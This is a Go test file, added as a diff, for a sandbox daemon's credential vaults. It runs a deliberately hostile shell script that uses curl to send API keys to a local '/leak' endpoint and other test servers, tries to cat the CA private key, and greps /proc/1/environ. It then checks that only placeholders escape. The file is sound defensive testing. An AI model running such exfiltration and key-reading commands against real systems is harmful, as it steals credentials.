@@ -1,0 +1,218 @@
+package daemon_test
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"io"
+	"math/big"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/sandbox0/sandbox0d/daemon"
+)
+
+const (
+	hostileLLMKey = "sk-ant-hostile-llm-key-0123456789abcdef"
+	hostileSvcKey = "svc-hostile-service-token-fedcba9876543210"
+)
+
+// recorder keeps every request a test host received, headers and body.
+type recorder struct {
+	mu   sync.Mutex
+	reqs []string
+}
+
+func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	var b strings.Builder
+	b.WriteString(r.Method + " " + r.URL.String() + "\n")
+	_ = r.Header.Write(&b)
+	b.WriteString("\n")
+	b.Write(body)
+	rec.mu.Lock()
+	rec.reqs = append(rec.reqs, b.String())
+	rec.mu.Unlock()
+	io.WriteString(w, "ok\n") // never echo: the harness must not learn what arrived
+}
+
+func (rec *recorder) String() string {
+	rec.mu.Lock()
+	defer rec.mu.Unlock()
+	return strings.Join(rec.reqs, "\n----\n")
+}
+
+// untrustedTLS serves h over TLS on ip with a self-signed certificate
+// nobody trusts.
+func untrustedTLS(t *testing.T, ip string, h http.Handler) string {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	require.NoError(t, err)
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: pkix.Name{CommonName: "untrusted"},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
+		IPAddresses: []net.IP{net.ParseIP(ip)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	require.NoError(t, err)
+	ln, err := net.Listen("tcp", ip+":0")
+	if err != nil {
+		t.Skipf("cannot listen on %s: %v", ip, err)
+	}
+	srv := httptest.NewUnstartedServer(h)
+	srv.Listener.Close()
+	srv.Listener = ln
+	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
+	srv.StartTLS()
+	t.Cleanup(srv.Close)
+	return srv.Listener.Addr().String()
+}
+
+func hostPort(t *testing.T, raw string) (string, string) {
+	u, err := url.Parse(raw)
+	require.NoError(t, err)
+	return u.Hostname(), u.Port()
+}
+
+// TestHostileHarnessHoldsOnlyPlaceholders is issue 23's hostile harness:
+// a shell script in a limited environment, under real bubblewrap, with an
+// LLM vault (header injection, scoped to 127.0.0.1) and a service vault
+// (body injection, scoped to 127.0.0.1 and 127.0.0.2). Its environment
+// holds only placeholders; sent to a host no credential is scoped to, they
+// arrive as placeholders; sent to the scoped host over HTTPS (curl without
+// -k: the sandbox trusts the daemon's CA), each arrives substituted where
+// its injection allows and nowhere else. A scoped host whose certificate
+// does not verify is refused and the log says why; the CA key cannot be
+// read from inside. Neither secret is anywhere in the events, the log,
+// the data dir or a backup.
+func TestHostileHarnessHoldsOnlyPlaceholders(t *testing.T) {
+	if _, err := exec.LookPath("bwrap"); err != nil {
+		t.Skip("bwrap is not installed (Debian package bubblewrap)")
+	}
+	if _, err := os.Stat("/usr/bin/curl"); err != nil {
+		t.Skip("curl is not installed (Debian package curl)")
+	}
+	var scoped, other, bad recorder
+	scopedSrv := httptest.NewTLSServer(&scoped) // httptest's certificate, for 127.0.0.1
+	defer scopedSrv.Close()
+	otherSrv := httptest.NewServer(&other)
+	defer otherSrv.Close()
+	badAddr := untrustedTLS(t, "127.0.0.2", &bad)
+	_, scopedPort := hostPort(t, scopedSrv.URL)
+	_, otherPort := hostPort(t, otherSrv.URL)
+
+	cfg := localConfig(t, "bubblewrap")
+	dir := filepath.Dir(cfg.DataDir)
+	upstreamCA := filepath.Join(dir, "upstream-ca.pem")
+	require.NoError(t, os.WriteFile(upstreamCA, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: scopedSrv.Certificate().Raw}), 0o644))
+	cfg.Local.Egress.UpstreamCAFile = upstreamCA
+	llm := filepath.Join(dir, "llm.env")
+	require.NoError(t, os.WriteFile(llm, []byte("ANTHROPIC_API_KEY="+hostileLLMKey+"\n"), 0o600))
+	svc := filepath.Join(dir, "svc.env")
+	require.NoError(t, os.WriteFile(svc, []byte("SVC_TOKEN="+hostileSvcKey+"\n"), 0o600))
+	cfg.Local.Vaults = []daemon.LocalVault{
+		{ID: "vault_llm", File: llm, Hosts: []string{"127.0.0.1"}},
+		{ID: "vault_svc", File: svc, Hosts: []string{"127.0.0.1", "127.0.0.2"}, Inject: []string{"body"}},
+	}
+	caKey := filepath.Join(cfg.DataDir, "egress-ca", "ca.key")
+	script := `
+echo "env ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY SVC_TOKEN=$SVC_TOKEN"
+echo "trust SSL_CERT_FILE=$SSL_CERT_FILE NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS"
+curl -sS -o /dev/null http://localhost:` + otherPort + `/leak -H "Authorization: Bearer $ANTHROPIC_API_KEY" -H "X-Svc: $SVC_TOKEN" --data "svc=$SVC_TOKEN&llm=$ANTHROPIC_API_KEY"
+echo "other rc=$?"
+curl -sS -o /dev/null https://127.0.0.1:` + scopedPort + `/api?k=$ANTHROPIC_API_KEY -H "Authorization: Bearer $ANTHROPIC_API_KEY" -H "X-Svc: $SVC_TOKEN" --data "svc=$SVC_TOKEN&llm=$ANTHROPIC_API_KEY"
+echo "scoped rc=$?"
+curl -sS -o /dev/null https://` + badAddr + `/ -H "Authorization: Bearer $ANTHROPIC_API_KEY" --data "svc=$SVC_TOKEN" 2>&1
+echo "badcert rc=$?"
+cat ` + caKey + ` 2>&1
+echo "cakey rc=$?"
+cat /proc/1/environ 2>/dev/null | tr '\0' '\n' | grep -c ` + hostileLLMKey[:12] + `
+echo "done"
+`
+	cfg.Local.Agents = []daemon.LocalAgent{{ID: "agent_hostile", Version: 1, Command: []string{"/bin/sh", "-c", script}}}
+	cfg.Local.Environments = []daemon.LocalEnvironment{{ID: "env_limited", Timeout: 2 * time.Minute,
+		Networking: daemon.LocalNetworking{Type: "limited", AllowedHosts: []string{"127.0.0.1", "127.0.0.2", "localhost"}}}}
+	r := start(t, cfg, daemon.Options{})
+
+	status, out := api(t, r, http.MethodPost, "/v1/sessions", map[string]any{"agent": "agent_hostile",
+		"environment_id": "env_limited", "vault_ids": []string{"vault_llm", "vault_svc"}})
+	require.Equal(t, http.StatusOK, status, "%v", out)
+	id := out["id"].(string)
+	status, out = sendText(t, r, id, "go")
+	require.Equal(t, http.StatusOK, status, "%v", out)
+	awaitEvent(t, r, id, messageSaying("done"))
+
+	req, err := http.NewRequest(http.MethodGet, "http://sandbox0d/v1/sessions/"+id+"/events?limit=1000", nil)
+	require.NoError(t, err)
+	req.Header.Set("anthropic-beta", "managed-agents-2026-04-01")
+	resp, err := socketClient(r.socket).Do(req)
+	require.NoError(t, err)
+	events, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	text := string(events)
+	t.Log(text)
+
+	// The harness holds placeholders, distinct per credential.
+	assert.Regexp(t, `env ANTHROPIC_API_KEY=s0d-placeholder-[0-9a-f]{32} SVC_TOKEN=s0d-placeholder-[0-9a-f]{32}`, text)
+	assert.Contains(t, text, "trust SSL_CERT_FILE=/run/sandbox0d/ca-bundle.pem NODE_EXTRA_CA_CERTS=/run/sandbox0d/ca-bundle.pem")
+	assert.Contains(t, text, "other rc=0")
+	assert.Contains(t, text, "scoped rc=0", "curl verified the daemon's certificate without -k")
+	assert.NotContains(t, text, "badcert rc=0")
+	assert.Contains(t, text, "cakey rc=1", "the CA key is not visible inside the sandbox")
+	assert.NotContains(t, text, "PRIVATE KEY")
+
+	// The non-scoped host got placeholders only.
+	assert.Contains(t, other.String(), "Authorization: Bearer s0d-placeholder-")
+	assert.Contains(t, other.String(), "svc=s0d-placeholder-")
+	// The scoped host: the LLM key in the header (its injection), not in
+	// the body or the URL; the service token in the body (its
+	// injection), not in a header.
+	got := scoped.String()
+	t.Log(got)
+	assert.Contains(t, got, "Authorization: Bearer "+hostileLLMKey)
+	assert.Contains(t, got, "svc="+hostileSvcKey)
+	assert.Regexp(t, `X-Svc: s0d-placeholder-[0-9a-f]{32}`, got)
+	assert.Regexp(t, `llm=s0d-placeholder-[0-9a-f]{32}`, got)
+	assert.Regexp(t, `\?k=s0d-placeholder-[0-9a-f]{32}`, got)
+	assert.Equal(t, 1, strings.Count(got, hostileLLMKey))
+	assert.Equal(t, 1, strings.Count(got, hostileSvcKey))
+	// The host whose certificate does not verify got nothing; the log says why.
+	assert.Empty(t, bad.String())
+	assert.Contains(t, r.logs.String(), "does not verify")
+
+	// Nowhere the daemon writes.
+	backup, err := socketClient(r.socket).Get("http://sandbox0d/admin/backup")
+	require.NoError(t, err)
+	backupBytes, err := io.ReadAll(backup.Body)
+	backup.Body.Close()
+	require.NoError(t, err)
+	require.NotEmpty(t, backupBytes)
+	for _, secret := range []string{hostileLLMKey, hostileSvcKey} {
+		assert.NotContains(t, text, secret, "events")
+		assert.NotContains(t, r.logs.String(), secret, "daemon log")
+		assert.NotContains(t, string(backupBytes), secret, "backup")
+		_ = filepath.WalkDir(cfg.DataDir, func(path string, d os.DirEntry, err error) error {
+			if err != nil || d.IsDir() {
+				return nil
+			}
+			if data, err := os.ReadFile(path); err == nil && strings.Contains(string(data), secret) {
+				t.Errorf("a secret is in %s", path)
+			}
+			return nil
+		})
+	}
+}
